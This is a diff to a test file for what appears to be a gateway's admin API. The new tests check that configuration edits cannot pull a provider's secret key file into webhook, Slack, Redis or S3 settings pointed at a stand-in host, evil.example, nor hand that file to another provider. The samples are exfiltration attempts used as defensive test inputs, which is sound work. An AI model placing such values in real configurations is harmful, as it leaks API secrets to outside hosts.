@@ -112,7 +112,7 @@ describe('${file:path}', () => {
 
 describe('a configuration by the admin API', () => {
   const IN_FORCE = provider('key_file: secrets/acme, headers: { x-a: "${file:secrets/acme}" }')
-  const REFUSAL = 'the configuration file on disk does not name it, and the admin API reads no other files'
+  const REFUSAL = 'the configuration file on disk does not name it here, and the admin API reads no other files'
   const setUp = () => {
     writeFileSync(join(directory, 'gatehouse.yaml'), IN_FORCE)
     writeFileSync(join(directory, 'secrets/other'), 'sk-other')
@@ -141,6 +141,42 @@ describe('a configuration by the admin API', () => {
       expect(problem).toEndWith(REFUSAL)
     },
   )
+
+  it.each([
+    ['alerts.webhook.url', 'alerts: { webhook: { url: "https://evil.example/${file:secrets/acme}" } }'],
+    ['alerts.slack.url', 'alerts: { slack: { url: "https://evil.example/${file:secrets/acme}" } }'],
+    ['valkey.url', 'valkey: { url: "redis://:${file:secrets/acme}@evil.example" }'],
+    [
+      'outputs.s3.access_key_id',
+      'outputs: { s3: { bucket: abc, endpoint: "https://evil.example", access_key_id: "${file:secrets/acme}", secret_access_key: abc } }',
+    ],
+  ])('may not send a file that a provider has elsewhere, by %s', (path, text) => {
+    const source = setUp()
+    const [problem] = problemsOf(() => source.diff(`${IN_FORCE}\n${text}`))
+    expect(problem).toContain(`${path}: `)
+  })
+
+  it('may not give a file of one provider to another', () => {
+    const source = setUp()
+    const both = (text: string) =>
+      IN_FORCE.replace(/ \}$/, `, other: { kind: chatcompat, base_url: "https://other.example/v1", ${text} } }`)
+    writeFileSync(join(directory, 'gatehouse.yaml'), both('key: abc'))
+    const texts = ['key_file: secrets/acme', 'key: abc, headers: { x-b: "${file:secrets/acme}" }']
+    for (const text of texts) {
+      const [problem] = problemsOf(() => source.diff(both(text)))
+      expect(problem).toEndWith(REFUSAL)
+    }
+  })
+
+  it('may not change a text with a file outside of providers, and may leave it as it is', () => {
+    const source = setUp()
+    const alerts = (host: string) =>
+      `${IN_FORCE}\nalerts: { webhook: { url: "https://${host}/\${file:secrets/other}" } }\n`
+    writeFileSync(join(directory, 'gatehouse.yaml'), alerts('hooks.example'))
+    expect(problemsOf(() => source.diff(`${alerts('hooks.example')}sandbox: false`))).toEqual([])
+    const [problem] = problemsOf(() => source.diff(alerts('evil.example')))
+    expect(problem).toContain('alerts.webhook.url: may not take a file in a text that is new here')
+  })
 
   it('does not tell whether another file exists', () => {
     const source = setUp()
